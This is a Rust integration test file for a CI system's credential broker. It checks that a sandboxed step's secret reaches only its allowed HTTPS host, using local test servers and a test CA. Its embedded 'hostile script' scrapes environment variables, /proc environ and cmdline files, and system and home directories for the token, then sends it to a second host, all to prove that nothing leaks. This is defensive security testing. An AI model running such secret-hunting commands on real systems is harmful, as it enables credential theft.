//! The credential broker end to end: a sandboxed step names a credential
//! for one host; real HTTPS servers on loopback, each with a certificate
//! of a test CA the worker trusts, stand in for that API host (which
//! echoes the request's headers back, as httpbin does) and for another
//! host. `curl` and `gh api` (Debian's) reach the API host with the secret
//! the worker added, while a hostile script finds it nowhere: not in its
//! environment, files, `/proc`, the proxy's or the host's answers, nor in
//! what it sent to the other host.

use std::sync::{Arc, Mutex};
use std::time::Duration;

use rcgen::{CertificateParams, CertifiedIssuer, IsCa, KeyPair};
use tidewright_api::abort::AbortOnDrop;
use tidewright_api::v1;
use tidewright_tests::*;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

/// The secret: only the worker's secrets directory and the API host's
/// records ever hold it.
const SECRET: &str = "ghs_brokered_0123456789abcdef";
/// What the hostile script looks for: the secret's start.
const NEEDLE: &str = "ghs_brokered_";

/// An HTTPS server on 127.0.0.1 for `name`: it records each request's
/// head and answers with it as its body (and, at `/api/v3/user`, as
/// GitHub's API does when the token is `token SECRET`).
struct Host {
    port: u16,
    heads: Arc<Mutex<Vec<String>>>,
    _serving: AbortOnDrop,
}

impl Host {
    async fn start(name: &str, ca: &CertifiedIssuer<'static, KeyPair>) -> Host {
        let params = CertificateParams::new(vec![name.to_string()]).expect("params");
        let key = KeyPair::generate().expect("key");
        let cert = params.signed_by(&key, ca).expect("signed");
        let key = rustls_pki_types::PrivateKeyDer::try_from(key.serialize_der()).expect("key der");
        let config = tokio_rustls::rustls::ServerConfig::builder_with_provider(Arc::new(
            tokio_rustls::rustls::crypto::ring::default_provider(),
        ))
        .with_safe_default_protocol_versions()
        .expect("versions")
        .with_no_client_auth()
        .with_single_cert(vec![cert.der().clone()], key)
        .expect("config");
        let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(config));
        let listener = tokio::net::TcpListener::bind(("127.0.0.1", 0))
            .await
            .expect("bind");
        let port = listener.local_addr().expect("addr").port();
        let heads = Arc::new(Mutex::new(Vec::new()));
        let recorded = heads.clone();
        let serving = tokio::spawn(async move {
            while let Ok((tcp, _)) = listener.accept().await {
                let (acceptor, recorded) = (acceptor.clone(), recorded.clone());
                tokio::spawn(async move {
                    let Ok(mut tls) = acceptor.accept(tcp).await else {
                        return;
                    };
                    let mut head = Vec::new();
                    let mut chunk = [0u8; 4096];
                    while !head.windows(4).any(|w| w == b"\r\n\r\n") {
                        match tls.read(&mut chunk).await {
                            Ok(0) | Err(_) => return,
                            Ok(n) => head.extend_from_slice(&chunk[..n]),
                        }
                    }
                    let head = String::from_utf8_lossy(&head).into_owned();
                    recorded.lock().expect("heads").push(head.clone());
                    let authorized = head
                        .lines()
                        .any(|l| l.eq_ignore_ascii_case(&format!("authorization: token {SECRET}")));
                    let body = if head.starts_with("GET /api/v3/user ") && authorized {
                        r#"{"login":"brokered-octocat","id":1}"#.to_string()
                    } else {
                        format!("authorized: {authorized}\n{head}")
                    };
                    let status = if authorized {
                        "200 OK"
                    } else {
                        "401 Unauthorized"
                    };
                    let answer = format!(
                        "HTTP/1.1 {status}\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                        body.len()
                    );
                    let _ = tls.write_all(answer.as_bytes()).await;
                    let _ = tls.shutdown().await;
                });
            }
        });
        Host {
            port,
            heads,
            _serving: AbortOnDrop(serving),
        }
    }

    fn heads(&self) -> Vec<String> {
        self.heads.lock().expect("heads").clone()
    }
}

fn test_ca() -> CertifiedIssuer<'static, KeyPair> {
    let mut params = CertificateParams::new(Vec::<String>::new()).expect("params");
    params.is_ca = IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    params
        .distinguished_name
        .push(rcgen::DnType::CommonName, "broker test hosts' CA");
    CertifiedIssuer::self_signed(params, KeyPair::generate().expect("key")).expect("ca")
}

/// The hostile script: each check prints `<name>: clean` or
/// `<name>: LEAKED`, then what the tools got.
fn script(api: &str, other: &str) -> String {
    format!(
        r#"needle="{first}"; needle="${{needle}}{rest}"
check() {{ if grep -q "$needle" "$2" 2>/dev/null; then echo "$1: LEAKED"; else echo "$1: clean"; fi; }}
env > /tmp/env; check env /tmp/env
cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' '\n' > /tmp/proc; check proc /tmp/proc
grep -rs "$needle" /run/tidewright "$HOME" /etc . > /tmp/files 2>/dev/null; check files /tmp/files
echo "placeholder: $GH_ENTERPRISE_TOKEN"
curl -sS -D /tmp/api-headers -o /tmp/api "https://{api}/echo" -H "Authorization: token $GH_ENTERPRISE_TOKEN"; echo "curl exit: $?"
cat /tmp/api-headers /tmp/api > /tmp/answer; check answer /tmp/answer
echo "api said: $(head -n 1 /tmp/api)"
curl -sS -o /tmp/other "https://{other}/echo" -H "Authorization: token $GH_ENTERPRISE_TOKEN"; check other /tmp/other
curl -sS -o /tmp/refused "https://refused.broker.test/" 2>/tmp/refused-err; cat /tmp/refused /tmp/refused-err > /tmp/proxy; check proxy /tmp/proxy
GH_HOST={api} GH_NO_UPDATE_NOTIFIER=1 GH_PROMPT_DISABLED=1 gh api /user > /tmp/gh 2>&1; echo "gh exit: $?"
check gh /tmp/gh
echo "gh said: $(cat /tmp/gh)"
"#,
        // Never whole in the script, which its own /proc shows.
        first = &NEEDLE[..4],
        rest = &NEEDLE[4..],
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_brokered_credential_reaches_its_host_only_and_a_hostile_step_finds_it_nowhere() {
    let dir = tempfile::tempdir().expect("tempdir");
    let ca = test_ca();
    let api = Host::start("api.broker.test", &ca).await;
    let other = Host::start("other.broker.test", &ca).await;
    // The worker trusts the hosts' CA (and its steps do, beside their own).
    let roots = dir.path().join("roots.pem");
    std::fs::write(&roots, ca.pem()).expect("roots");
    let secrets = dir.path().join("secrets");
    std::fs::create_dir_all(&secrets).expect("secrets");
    std::fs::write(secrets.join("gh-token"), format!("{SECRET}\n")).expect("secret");
    let server = Server::start(dir.path()).expect("server");
    let hosts =
        "api.broker.test=127.0.0.1,other.broker.test=127.0.0.1,refused.broker.test=127.0.0.1";
    let _worker = start_strict_worker(
        &server.url,
        &server.data_dir,
        "w1",
        &["shell"],
        1,
        &[
            "--secrets-dir",
            secrets.to_str().expect("utf-8"),
            "--egress-host",
            hosts,
        ],
        &server.worker_token,
        &[("SSL_CERT_FILE", roots.to_str().expect("utf-8"))],
    )
    .expect("worker");
    server.wait_for_agents(&["w1"]).await.expect("worker");
    let client = server.tasks().await.expect("client");

    let (api_at, other_at) = (
        format!("api.broker.test:{}", api.port),
        format!("other.broker.test:{}", other.port),
    );
    let mut step = shell_step("hostile", &[], &script(&api_at, &other_at));
    step.egress = Some(v1::Egress {
        allow: vec![api_at.clone(), other_at.clone()],
    });
    step.credentials = vec![v1::Credential {
        host: api_at.clone(),
        secret: "gh-token".into(),
        header: "Authorization".into(),
        format: "token {}".into(),
        env: "GH_ENTERPRISE_TOKEN".into(),
    }];
    let id = submit(&client, task("broker", vec![step]))
        .await
        .expect("submit");
    let done = wait_finished(&client, &id, Duration::from_secs(120))
        .await
        .expect("finished");
    let said = step_log(&client, &id, "hostile").await;
    assert_eq!(done.state, v1::TaskState::Succeeded as i32, "{said}");
    assert!(
        !said.contains(NEEDLE),
        "the secret is in the step's log: {said}"
    );
    for check in ["env", "proc", "files", "answer", "other", "proxy", "gh"] {
        assert!(said.contains(&format!("{check}: clean")), "{check}: {said}");
    }
    // The tools got through with it: curl's answer was the API host's
    // (authorized), gh's the user.
    assert!(said.contains("curl exit: 0"), "{said}");
    assert!(said.contains("api said: authorized: true"), "{said}");
    assert!(said.contains("gh exit: 0"), "{said}");
    assert!(said.contains("brokered-octocat"), "{said}");
    assert!(
        said.contains("placeholder: tidewright-placeholder-"),
        "{said}"
    );

    // The API host had the secret, under its own name; the other host
    // only the placeholder.
    let api_heads = api.heads();
    assert!(api_heads.len() >= 2, "{api_heads:?}");
    for head in &api_heads {
        assert!(
            head.contains(&format!("authorization: token {SECRET}")),
            "{head}"
        );
        assert!(
            head.to_ascii_lowercase()
                .contains(&format!("host: {api_at}")),
            "{head}"
        );
        assert!(!head.contains("tidewright-placeholder-"), "{head}");
    }
    let other_heads = other.heads();
    assert_eq!(other_heads.len(), 1, "{other_heads:?}");
    assert!(!other_heads[0].contains(NEEDLE), "{other_heads:?}");
    assert!(
        other_heads[0].contains("tidewright-placeholder-"),
        "{other_heads:?}"
    );
}

#[tokio::test]
async fn a_credential_for_a_host_its_step_may_not_reach_is_refused_at_submit_naming_both() {
    let dir = tempfile::tempdir().expect("tempdir");
    let server = Server::start(dir.path()).expect("server");
    let client = server.tasks().await.expect("client");
    let mut step = shell_step("s", &[], "true");
    step.egress = Some(v1::Egress {
        allow: vec!["api.github.com".into()],
    });
    step.credentials = vec![v1::Credential {
        host: "uploads.github.com".into(),
        secret: "gh-token".into(),
        ..v1::Credential::default()
    }];
    let refused = submit(&client, task("refused", vec![step.clone()]))
        .await
        .expect_err("a host outside its egress");
    let said = refused.to_string();
    assert!(said.contains("steps[0].credentials[0].host"), "{said}");
    assert!(said.contains("uploads.github.com:443"), "{said}");
    assert!(said.contains("api.github.com"), "{said}");
    assert!(
        said.contains("InvalidArgument") || said.contains("invalid"),
        "{said}"
    );

    // Nothing was stored: the task list is empty.
    let tasks = client
        .clone()
        .list_tasks(v1::ListTasksRequest::default())
        .await
        .expect("list")
        .into_inner()
        .tasks;
    assert!(tasks.is_empty(), "{tasks:?}");
}

#[tokio::test]
async fn a_step_with_credentials_on_a_worker_without_the_sandbox_fails_saying_why() {
    let dir = tempfile::tempdir().expect("tempdir");
    let server = Server::start(dir.path()).expect("server");
    let _loose = start_strict_worker(
        &server.url,
        &server.data_dir,
        "loose-1",
        &["shell"],
        1,
        &["--sandbox=off"],
        &server.worker_token,
        &[],
    )
    .expect("worker");
    server.wait_for_agents(&["loose-1"]).await.expect("worker");
    let client = server.tasks().await.expect("client");
    let mut step = shell_step("s", &[], "true");
    step.egress = Some(v1::Egress {
        allow: vec!["api.github.com".into()],
    });
    step.credentials = vec![v1::Credential {
        host: "api.github.com".into(),
        secret: "gh-token".into(),
        ..v1::Credential::default()
    }];
    let id = submit(&client, task("loose", vec![step]))
        .await
        .expect("submit");
    let done = wait_finished(&client, &id, Duration::from_secs(60))
        .await
        .expect("finished");
    assert_eq!(done.state, v1::TaskState::Failed as i32, "{done:?}");
    let error = &tidewright_tests::step(&done, "s").error;
    assert!(error.contains("credentials need the sandbox"), "{error}");
}

/// Git over HTTPS takes the same path: a sandboxed step's `git ls-remote`
/// of a repository on a real git server (nginx and git's http-backend,
/// over TLS with a certificate of the test CA) gets its basic credential
/// from the broker; without the credential the server refuses it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn git_over_https_gets_its_credential_from_the_broker() {
    use base64::Engine;
    use tidewright_tests::git_server::{GitServer, PASSWORD, USER};

    let dir = tempfile::tempdir().expect("tempdir");
    let ca = test_ca();
    let params = CertificateParams::new(vec!["git.broker.test".to_string()]).expect("params");
    let key = KeyPair::generate().expect("key");
    let cert = params.signed_by(&key, &ca).expect("signed");
    let (cert_path, key_path) = (dir.path().join("git.pem"), dir.path().join("git.key"));
    std::fs::write(&cert_path, cert.pem()).expect("cert");
    std::fs::write(&key_path, key.serialize_pem()).expect("key");
    let git = GitServer::start_with_tls(dir.path(), (&cert_path, &key_path)).expect("git server");
    let head = git.create_repo("app", &[("README.md", "hello\n")]);
    let port = git
        .tls_addr
        .as_deref()
        .and_then(|a| a.rsplit(':').next())
        .expect("tls port")
        .to_string();
    let roots = dir.path().join("roots.pem");
    std::fs::write(&roots, ca.pem()).expect("roots");
    let secrets = dir.path().join("secrets");
    std::fs::create_dir_all(&secrets).expect("secrets");
    let basic = base64::engine::general_purpose::STANDARD.encode(format!("{USER}:{PASSWORD}"));
    std::fs::write(secrets.join("git-basic"), &basic).expect("secret");
    let server = Server::start(&dir.path().join("server")).expect("server");
    let _worker = start_strict_worker(
        &server.url,
        &server.data_dir,
        "w1",
        &["shell"],
        1,
        &[
            "--secrets-dir",
            secrets.to_str().expect("utf-8"),
            "--egress-host",
            "git.broker.test=127.0.0.1",
        ],
        &server.worker_token,
        &[("SSL_CERT_FILE", roots.to_str().expect("utf-8"))],
    )
    .expect("worker");
    server.wait_for_agents(&["w1"]).await.expect("worker");
    let client = server.tasks().await.expect("client");
    let at = format!("git.broker.test:{port}");
    let script = format!(
        "GIT_TERMINAL_PROMPT=0 git ls-remote https://{at}/app.git refs/heads/main; echo \"git exit: $?\""
    );
    let step = |id: &str, brokered: bool| {
        let mut step = shell_step(id, &[], &script);
        step.egress = Some(v1::Egress {
            allow: vec![at.clone()],
        });
        if brokered {
            step.credentials = vec![v1::Credential {
                host: at.clone(),
                secret: "git-basic".into(),
                header: "Authorization".into(),
                format: "Basic {}".into(),
                env: String::new(),
            }];
        }
        step
    };
    let id = submit(
        &client,
        task("git", vec![step("brokered", true), step("bare", false)]),
    )
    .await
    .expect("submit");
    wait_finished(&client, &id, Duration::from_secs(60))
        .await
        .expect("finished");
    let brokered = step_log(&client, &id, "brokered").await;
    assert!(
        brokered.contains(&format!("{head}\trefs/heads/main")),
        "{brokered}"
    );
    assert!(brokered.contains("git exit: 0"), "{brokered}");
    assert!(!brokered.contains(&basic), "{brokered}");
    let bare = step_log(&client, &id, "bare").await;
    assert!(
        !bare.contains("git exit: 0"),
        "without it the server refuses: {bare}"
    );
}
